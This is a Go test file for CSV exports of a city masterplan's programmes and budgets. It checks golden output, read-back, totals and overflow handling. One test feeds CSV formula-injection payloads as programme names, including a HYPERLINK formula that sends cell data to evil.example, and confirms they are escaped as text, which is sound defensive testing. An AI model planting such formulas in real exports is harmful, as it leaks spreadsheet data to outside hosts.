package masterplan_test

import (
	"bytes"
	"encoding/csv"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/kotacerdas/smartcity/internal/golden"
	"github.com/kotacerdas/smartcity/masterplan"
	"github.com/kotacerdas/smartcity/masterplan/plantest"
)

func TestWriteProgramsCSVGolden(t *testing.T) {
	p := plantest.Rembang()
	tests := []struct {
		name  string
		write func(*bytes.Buffer, masterplan.ExportOptions) error
		opt   masterplan.ExportOptions
	}{
		{"programs-rembang.csv", func(b *bytes.Buffer, o masterplan.ExportOptions) error { return p.WriteProgramsCSV(b, o) }, masterplan.ExportOptions{}},
		{"programs-rembang.semicolon.csv", func(b *bytes.Buffer, o masterplan.ExportOptions) error { return p.WriteProgramsCSV(b, o) }, masterplan.ExportOptions{Semicolon: true, BOM: true}},
		{"budget-rembang.csv", func(b *bytes.Buffer, o masterplan.ExportOptions) error { return p.WriteBudgetCSV(b, o) }, masterplan.ExportOptions{}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			require.NoError(t, tt.write(&b, tt.opt))
			golden.Check(t, filepath.Join("testdata", "report", tt.name), b.Bytes())
		})
	}
}

// A ";" export with a byte-order mark reads back: every programme, its
// yearly budget and total, and the totals add up to the plan's.
func TestWriteProgramsCSVReadsBack(t *testing.T) {
	p := plantest.Rembang()
	var b bytes.Buffer
	require.NoError(t, p.WriteProgramsCSV(&b, masterplan.ExportOptions{Semicolon: true, BOM: true}))
	data := b.Bytes()
	require.True(t, bytes.HasPrefix(data, []byte("\ufeff")))
	r := csv.NewReader(bytes.NewReader(data[3:]))
	r.Comma = ';'
	rows, err := r.ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 1+19)
	header := rows[0]
	assert.Equal(t, []string{"id", "name", "pillar", "element", "responsible_opd", "supporting_opds", "horizon",
		"start_year", "end_year", "quick_win", "technology_based", "status", "illustrative", "sources",
		"2022", "2023", "2024", "2025", "2026", "2027", "2028", "2029", "2030", "2031", "total"}, header)
	assert.Equal(t, []string{"GOV-01", "Rembang Gemilang Mobile", "GOV", "GOV.SVC"}, rows[1][:4])
	assert.Equal(t, "1", rows[1][9])
	assert.Equal(t, "1400000000", rows[1][24])

	s, err := p.Summarize()
	require.NoError(t, err)
	var total int64
	quickWins := 0
	for _, row := range rows[1:] {
		var sum int64
		for c := 14; c < 24; c++ {
			if row[c] != "" {
				sum += mustInt(t, row[c])
			}
		}
		assert.Equal(t, mustInt(t, row[24]), sum, "programme %s", row[0])
		total += sum
		if row[9] == "1" {
			quickWins++
		}
	}
	assert.Equal(t, s.Budget.Total, total)
	assert.Equal(t, int64(17_620_000_000), total)
	assert.Equal(t, 6, quickWins)
}

func mustInt(t *testing.T, s string) int64 {
	t.Helper()
	var v int64
	for _, c := range s {
		require.True(t, c >= '0' && c <= '9', "amount %q", s)
		v = v*10 + int64(c-'0')
	}
	return v
}

// A programme named like a formula is written as text in both exports.
func TestExportFormulaInjection(t *testing.T) {
	p := plantest.Rembang()
	names := []string{`=HYPERLINK("http://evil.example/?d="&A1,"klik")`, "+62 812", "-1+1", "@SUM(A1:A9)", "\tTab", "\rCR"}
	for _, name := range names {
		p.Programs[0].Name = name
		p.Programs[0].ResponsibleOPD = name
		for _, tt := range []struct {
			write func(*bytes.Buffer) error
			comma rune
		}{
			{func(b *bytes.Buffer) error { return p.WriteProgramsCSV(b, masterplan.ExportOptions{}) }, ','},
			{func(b *bytes.Buffer) error { return p.WriteBudgetCSV(b, masterplan.ExportOptions{Semicolon: true}) }, ';'},
		} {
			var b bytes.Buffer
			require.NoError(t, tt.write(&b))
			r := csv.NewReader(&b)
			r.Comma = tt.comma
			rows, err := r.ReadAll()
			require.NoError(t, err)
			assert.Equal(t, "'"+name, rows[1][1], "name %q", name)
		}
	}
}

// An amount too large to total is an error, and nothing is written.
func TestWriteProgramsCSVOverflow(t *testing.T) {
	p := plantest.Rembang()
	p.Programs[0].Budget = append(p.Programs[0].Budget, masterplan.BudgetLine{Year: 2022, Source: masterplan.APBD, Amount: 1<<63 - 1})
	var b bytes.Buffer
	require.ErrorIs(t, p.WriteProgramsCSV(&b, masterplan.ExportOptions{}), masterplan.ErrOverflow)
	require.ErrorIs(t, p.WriteReport(&b, masterplan.ReportOptions{}), masterplan.ErrOverflow)
	assert.Zero(t, b.Len())
}
